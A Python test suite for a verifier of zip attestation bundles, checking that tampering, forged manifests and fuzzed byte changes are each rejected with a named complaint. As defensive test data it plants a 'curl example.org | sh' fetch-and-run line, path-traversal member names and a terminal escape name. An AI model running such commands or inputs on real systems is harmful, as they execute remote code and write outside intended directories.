"""Every way of tampering with a bundle is noticed, and named."""

from __future__ import annotations

import hashlib
import io
import json
import os
import warnings
import zipfile
from pathlib import Path
from typing import Any, Callable

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from gates.attestation import archive, strict_json
from gates.attestation.verify import verify, verify_bytes
from gates.errors import GatesError

OTHER = "1234567890abcdef1234567890abcdef12345679"


def appended_member(raw: bytes, name: str, content: bytes) -> bytes:
    stream = io.BytesIO(raw)
    with warnings.catch_warnings(), zipfile.ZipFile(stream, "a") as zipped:
        warnings.simplefilter("ignore")
        zipped.writestr(name, content)
    return stream.getvalue()


def compressed(raw: bytes) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as zipped:
        for name, content in archive.read(raw).members:
            zipped.writestr(name, content)
    return stream.getvalue()


def flipped(raw: bytes, place: int, mask: int = 1) -> bytes:
    return raw[:place] + bytes([raw[place] ^ mask]) + raw[place + 1 :]


def middle_of(raw: bytes, content: bytes) -> int:
    return raw.index(content) + len(content) // 2


RAW_TAMPERINGS: dict[str, tuple[Callable[[bytes], bytes], str]] = {
    "appended bytes": (lambda raw: raw + b"more", "4 bytes are appended to the archive"),
    "prepended bytes": (lambda raw: b"#!/bin/sh\n" + raw, "10 bytes stand before the archive"),
    "cut short": (lambda raw: raw[:-1], "the archive is not as it was written"),
    "cut in two": (lambda raw: raw[: len(raw) // 2], "no zip archive, or the end of one is missing"),
    "no zip": (lambda raw: b"not a zip", "is no zip archive"),
    "nothing": (lambda raw: b"", "is no zip archive"),
    "an empty zip": (lambda raw: archive.packed({}), "is no zip archive, or the end of one is missing"),
    "a duplicate member": (lambda raw: appended_member(raw, "report.json", b"{}"), "report.json: stands 2 times"),
    "an appended member": (lambda raw: appended_member(raw, "x.json", b"{}"), "x.json: was added"),
    "a path that climbs": (
        lambda raw: appended_member(raw, "../../x.py", b""),
        "'../../x.py': is no plain relative name",
    ),
    "an absolute path": (lambda raw: appended_member(raw, "/x.py", b""), "'/x.py': is no plain relative name"),
    "a path of another system": (lambda raw: appended_member(raw, "..\\x.py", b""), "'..\\\\x.py': is no plain"),
    "a name that a terminal obeys": (lambda raw: appended_member(raw, "\x1b[2J", b""), "'\\x1b[2J': is no plain"),
    "a name that a terminal obeys, added": (
        lambda raw: appended_member(raw, "\x1b[2J", b""),
        "\\x1b[2J: was added (the manifest does not list it)",
    ),
    "compressed anew": (compressed, "is not stored as it was written"),
    "a member's date": (lambda raw: flipped(raw, 12), "byte 12, in the header of 'attestations/baseline.json'"),
    "a mode in the directory": (lambda raw: flipped(raw, raw.index(b"PK\x01\x02") + 40), "in its directory"),
    "a comment": (lambda raw: raw[:-2] + b"\x02\x00hi", "the archive is not as it was written"),
}


@pytest.mark.parametrize("tampering", RAW_TAMPERINGS)
def test_a_changed_archive_is_rejected(raw: bytes, tampering: str) -> None:
    tamper, complaint = RAW_TAMPERINGS[tampering]
    found = verify_bytes(tamper(raw))

    assert found.exit_code == 1
    assert complaint in "\n".join(found.problems)
    assert complaint in found.text
    assert "\x1b" not in found.text


def edited(name: str, before: bytes, after: bytes) -> Callable[[Any], None]:
    def edit(parts: Any) -> None:
        assert before in parts.files[name]
        parts.files[name] = parts.files[name].replace(before, after)

    return edit


def without(name: str) -> Callable[[Any], None]:
    return lambda parts: parts.files.pop(name)


def with_file(name: str, content: bytes = b"{}\n") -> Callable[[Any], None]:
    return lambda parts: parts.files.update({name: content})


def changed_json(name: str, change: Callable[[Any], None]) -> Callable[[Any], None]:
    def edit(parts: Any) -> None:
        tree = json.loads(parts.files[name])
        change(tree)
        parts.files[name] = strict_json.dumps(tree)

    return edit


def record(name: str, **fields: Any) -> Callable[[Any], None]:
    return changed_json(f"attestations/{name}.json", lambda tree: tree["predicate"]["lukhas_gates"].update(fields))


def result(name: str, **fields: Any) -> Callable[[Any], None]:
    def change(tree: Any) -> None:
        next(told for told in tree["results"] if told["gate"] == "dynamic-import").update(fields)

    return changed_json(name, change)


# Without touching the manifest: what somebody does who knows zip files.
MEMBER_TAMPERINGS: dict[str, tuple[Callable[[Any], None], str]] = {
    "a dropped report": (without("report.json"), "report.json: is missing (the manifest lists it)"),
    "a dropped attestation": (without("attestations/waiver.json"), "attestations/waiver.json: is missing"),
    "a dropped manifest": (without("manifest.json"), "manifest.json: is missing"),
    "an added file": (with_file("notes.txt"), "notes.txt: was added (the manifest does not list it)"),
    "an added attestation": (with_file("attestations/x.json"), "attestations/x.json: was added"),
    "an edited policy": (edited("policies/gates.toml", b"warn", b"off "), "policies/gates.toml: was changed"),
    "a longer policy": (edited("policies/gates.toml", b"warn", b"block"), "and the manifest says"),
    "an edited manifest": (
        edited("manifest.json", b'"size": ', b'"size": 1'),
        "its merkle_root is not that of the files",
    ),
    "a manifest with a key twice": (edited("manifest.json", b"{\n", b'{\n "base": 1,\n'), "has the key 'base' twice"),
    "a manifest of another schema": (edited("manifest.json", b'"schema": 2', b'"schema": 3'), "its schema is 3"),
    "a manifest with more": (edited("manifest.json", b'"kind"', b'"also": 1, "kind"'), "has a 'also'"),
    "a manifest that was indented": (edited("manifest.json", b"\n ", b"\n  "), "not written as a manifest is written"),
    "a manifest that is no JSON": (with_file("manifest.json", b"{"), "manifest.json: is no JSON"),
    "a manifest too deep": (with_file("manifest.json", b"[" * 100_000), "manifest.json: is nested too deeply"),
    "a manifest not in UTF-8": (with_file("manifest.json", b"\xff"), "manifest.json: is not UTF-8 at byte 0"),
    "a pending digest": (
        changed_json("manifest.json", lambda tree: tree["files"][0].update(sha256="sha256-pending")),
        "which is a placeholder and no digest",
    ),
    "files out of order": (changed_json("manifest.json", lambda tree: tree["files"].reverse()), "are not in order"),
    "a claim of cleanness": (
        changed_json("manifest.json", lambda tree: tree.update(commit=OTHER)),
        "its subject is commit",
    ),
}


@pytest.mark.parametrize("tampering", MEMBER_TAMPERINGS)
def test_changed_members_are_rejected(parts: Any, tampering: str) -> None:
    tamper, complaint = MEMBER_TAMPERINGS[tampering]
    tamper(parts)
    found = verify_bytes(parts.packed())

    assert found.exit_code == 1
    assert complaint in "\n".join(found.problems)


# With a manifest that lists the files as they are now: the files must then contradict each other.
FORGERIES: dict[str, tuple[Callable[[Any], None], str]] = {
    "a dropped report": (without("report.json"), "report.json: is not in the manifest, and every bundle has it"),
    "a dropped proof": (without("proof.json"), "names the file proof.json, which is not here"),
    "a dropped attestation": (
        without("attestations/swallowed-failure.json"),
        "has a result of swallowed-failure, and attestations/swallowed-failure.json is not there",
    ),
    "a dropped policy": (without("policies/waivers.toml"), "names the policy file policies/waivers.toml, which is not"),
    "an added policy": (with_file("policies/more.toml"), "does not name the policy file policies/more.toml"),
    "an added file": (with_file("notes.txt"), "does not name the file notes.txt"),
    "an edited policy": (edited("policies/gates.toml", b"warn", b"off "), "is of another policies/gates.toml"),
    "an edited baseline": (edited("baseline.json", b": 1}", b": 9}"), "is of another baseline.json"),
    "an edited proof": (edited("proof.json", b"passed", b"broken"), "is of another proof.json"),
    "an edited lane report": (with_file("lane-violations.md"), "is of another lane-violations.md"),
    "a report with another outcome": (
        result("report.json", outcome="passed"),
        "says outcome 'failed', and report.json says 'passed'",
    ),
    "a report with fewer findings": (result("report.json", findings=[]), "says findings 1, and report.json says 0"),
    "a report with fewer waived": (result("report.json", waived=[]), "says waived 1, and report.json says 0"),
    "a report with another level": (result("report.json", level="block"), "says level 'warn', and report.json says"),
    "a report with other inputs": (result("report.json", inputs={}), "and report.json says {}"),
    "a report of another commit": (edited("report.json", b'"commit": "', b'"commit": "0'), "report.json: says commit"),
    "a report of a dirty tree": (
        edited("report.json", b'"dirty": []', b'"dirty": ["x.py"]'),
        "report.json: says that x.py differs from the commit, and manifest.json nothing",
    ),
    "a report that failed": (edited("report.json", b'"exit_code": 0', b'"exit_code": 1'), "no attestation says why"),
    "a report that is none": (with_file("report.json"), "report.json: is no report: 'schema' is None"),
    "a report of one gate twice": (
        changed_json("report.json", lambda tree: tree["results"].append(tree["results"][0])),
        "report.json: has two results of cross-lane-import",
    ),
    "a proof of another plant": (
        changed_json("proof.json", lambda tree: tree["results"][0]["findings"][0].update(subject="x")),
        "was planted, and proof.json does not",
    ),
    "a proof that failed": (
        result("proof.json", outcome="failed"),
        "its proof is 'passed', and proof.json says 'failed'",
    ),
    "a statement of another commit": (
        changed_json(
            "attestations/dynamic-import.json", lambda tree: tree["subject"][0]["digest"].update(gitCommit=OTHER)
        ),
        f"attestations/dynamic-import.json: its subject is commit {OTHER}",
    ),
    "a statement of no tree": (
        changed_json("attestations/dynamic-import.json", lambda tree: tree["subject"].pop()),
        "attestations/dynamic-import.json: its subject is commit",
    ),
    "a statement of another gate": (
        record("dynamic-import", gate="waiver"),
        "warnedTests is ['dynamic-import'], which is not",
    ),
    "a statement that was renamed": (
        lambda parts: parts.files.update({"attestations/x.json": parts.files.pop("attestations/dynamic-import.json")}),
        "attestations/x.json: is the attestation of 'dynamic-import'",
    ),
    "a better result": (
        changed_json("attestations/dynamic-import.json", lambda tree: tree["predicate"].update(result="PASSED")),
        "passedTests is [], which is not what result PASSED says",
    ),
    "a result that is none": (
        changed_json("attestations/dynamic-import.json", lambda tree: tree["predicate"].update(result="OK")),
        "result is 'OK', not one of PASSED, WARNED, FAILED",
    ),
    "another predicate": (
        changed_json("attestations/dynamic-import.json", lambda tree: tree.update(predicateType="https://x.org/v1")),
        "predicateType is 'https://x.org/v1', not https://in-toto.io/attestation/test-result/v0.1",
    ),
    "a statement of no policy": (
        changed_json("attestations/dynamic-import.json", lambda tree: tree["predicate"].update(configuration=[])),
        "it names no policy file, or no file of the bundle",
    ),
    "a better outcome": (record("dynamic-import", outcome="passed"), "result is WARNED, and passed at level warn"),
    "a statement of another tool": (
        record("dynamic-import", tool={"name": "gates", "version": "9"}),
        "says tool '9', and manifest.json says",
    ),
    "a statement of another day": (record("dynamic-import", today="2020-01-01"), "says today '2020-01-01'"),
    "a statement without inputs": (record("dynamic-import", inputs={}), "says inputs {}, and report.json says"),
    "a statement that is pending": (
        record("dynamic-import", digest="pending"),
        "lukhas_gates.digest is 'pending', which says nothing",
    ),
    "a statement that is no JSON": (with_file("attestations/dynamic-import.json", b"{"), "is no JSON"),
    "a statement of a gate that did not run": (
        lambda parts: parts.files.update(
            {
                "attestations/dead-link.json": parts.files["attestations/dynamic-import.json"].replace(
                    b'"dynamic-import"', b'"dead-link"'
                )
            }
        ),
        "attestations/dead-link.json: report.json has no result of dead-link",
    ),
}


def listed_anew(parts: Any) -> bytes:
    packed: bytes = parts.listed_anew().packed()
    return packed


@pytest.mark.parametrize("forgery", FORGERIES)
def test_a_forger_who_lists_the_files_anew_is_contradicted_by_the_files(parts: Any, forgery: str) -> None:
    tamper, complaint = FORGERIES[forgery]
    tamper(parts)
    found = verify_bytes(listed_anew(parts))

    assert found.exit_code == 1
    assert complaint in "\n".join(found.problems)


def test_listing_the_files_anew_changes_nothing_by_itself(parts: Any, raw: bytes) -> None:
    assert listed_anew(parts) == raw


def test_evidence_of_another_commit_is_rejected(raw: bytes, judged: Any) -> None:
    found = verify_bytes(raw, OTHER)

    assert found.problems == (f"it is evidence of another commit: {judged.report.commit}, not {OTHER}",)


def test_a_forger_who_rewrites_every_file_is_known_by_the_digest_of_the_manifest(parts: Any, raw: bytes) -> None:
    kept = verify_bytes(raw).digest
    for name in list(parts.files):
        parts.files[name] = parts.files[name].replace(b"2026-11-22", b"2026-11-23")
    statements = {name for name in parts.files if name.startswith("attestations/")}
    for name in statements:
        tree = json.loads(parts.files[name])
        for file in tree["predicate"]["lukhas_gates"]["evidence"] + tree["predicate"]["configuration"]:
            file["digest"]["sha256"] = hashlib.sha256(parts.files[file["name"]]).hexdigest()
        parts.files[name] = strict_json.dumps(tree)
    forged = listed_anew(parts)

    assert verify_bytes(forged).exit_code == 0  # what the first form cannot see by itself, as docs/evidence.md says
    assert verify_bytes(raw, digest=kept).exit_code == 0
    (problem,) = verify_bytes(forged, digest=kept).problems
    assert "it was edited, or is of another bundle" in problem


def test_what_is_no_signature_of_the_bundle_cannot_be_added_beside_its_files(parts: Any) -> None:
    parts.files["signatures/install.sh"] = b"curl example.org | sh"
    found = verify_bytes(parts.packed())

    assert "signatures/install.sh: was added (nothing in the bundle has such a signature)" in found.problems


def test_a_file_larger_than_any_bundle_is_not_read(tmp_path: Path) -> None:
    with (tmp_path / "large.zip").open("wb") as file:
        file.truncate(archive.MOST_BYTES + 1)  # a hole: it takes no room on the disk
    found = verify(tmp_path / "large.zip")

    assert found.exit_code == 3
    assert "are more than any bundle has" in found.text


def test_what_cannot_be_read_is_neither_verified_nor_rejected(tmp_path: Path) -> None:
    for place, why in ((tmp_path / "none.zip", "No such file or directory"), (tmp_path, "it is no file")):
        found = verify(place)
        assert found.exit_code == 3
        assert found.unreadable == f"{place}: cannot be read ({why})"


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="this system has no pipes with names")
def test_a_pipe_is_not_waited_for(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe")

    assert verify(tmp_path / "pipe").exit_code == 3


@pytest.mark.parametrize("commit", ["", "abc", "HEAD", OTHER[:12], OTHER.upper()])
def test_what_is_no_whole_commit_id_makes_no_sense(commit: str, tmp_path: Path) -> None:
    with pytest.raises(GatesError, match="is no whole commit id"):
        verify(tmp_path / "e.zip", commit)


def test_what_is_no_digest_makes_no_sense(tmp_path: Path) -> None:
    with pytest.raises(GatesError, match="is no SHA-256 of a manifest"):
        verify(tmp_path / "e.zip", digest="abc")


@settings(max_examples=200, deadline=None)
@given(data=st.data())
def test_any_one_byte_flipped_is_rejected(raw: bytes, data: st.DataObject) -> None:
    place = data.draw(st.integers(0, len(raw) - 1))
    mask = data.draw(st.integers(1, 255))

    assert verify_bytes(flipped(raw, place, mask)).exit_code == 1


@settings(max_examples=150, deadline=None)
@given(data=st.data())
def test_any_bytes_put_in_or_taken_out_are_rejected(raw: bytes, data: st.DataObject) -> None:
    start = data.draw(st.integers(0, len(raw)))
    end = data.draw(st.integers(start, min(len(raw), start + 200)))
    changed = raw[:start] + data.draw(st.binary(max_size=100)) + raw[end:]

    assert (verify_bytes(changed).exit_code == 1) == (changed != raw)


def test_every_byte_of_the_headers_counts(raw: bytes) -> None:
    members = archive.read(raw).members
    inside = {place for _, content in members for place in span(raw, content)}
    headers = set(range(len(raw))) - inside

    assert [place for place in sorted(headers) if verify_bytes(flipped(raw, place)).exit_code != 1] == []


def span(raw: bytes, content: bytes) -> range:
    start = raw.index(content)
    return range(start, start + len(content))


def _paths(tree: Any, path: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    items = tree.items() if isinstance(tree, dict) else enumerate(tree) if isinstance(tree, list) else ()
    return [path, *(deeper for key, value in items for deeper in _paths(value, (*path, key)))]


_junk = st.one_of(
    st.none(), st.booleans(), st.integers(), st.text(), st.lists(st.integers()), st.just({}), st.just({"gate": []})
)


def with_junk(data: st.DataObject, content: bytes) -> bytes:
    tree = json.loads(content)
    path = data.draw(st.sampled_from(_paths(tree)))
    junk = data.draw(_junk)
    if path:
        holder = tree
        for key in path[:-1]:
            holder = holder[key]
        holder[path[-1]] = junk
    else:
        tree = junk
    return strict_json.dumps(tree)


@settings(max_examples=150, deadline=None)
@given(data=st.data())
def test_whatever_stands_in_place_of_a_value_the_verifier_answers(raw: bytes, data: st.DataObject) -> None:
    files = dict(archive.read(raw).members)
    name = data.draw(st.sampled_from(sorted(name for name in files if name.endswith(".json"))))
    before = files[name]
    files[name] = with_junk(data, before)

    assert (verify_bytes(archive.packed(files)).exit_code == 0) == (files[name] == before)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.data())
def test_whatever_a_forger_lists_anew_the_verifier_answers(parts: Any, data: st.DataObject) -> None:
    forged = type(parts)(dict(parts.files))
    names = sorted(name for name in parts.files if name.endswith(".json") and name != "manifest.json")
    name = data.draw(st.sampled_from(names))
    forged.files[name] = with_junk(data, parts.files[name])
    found = verify_bytes(listed_anew(forged))

    assert found.exit_code in (0, 1)
    if not name.startswith("attestations/") and forged.files[name] != parts.files[name]:
        assert found.exit_code == 1
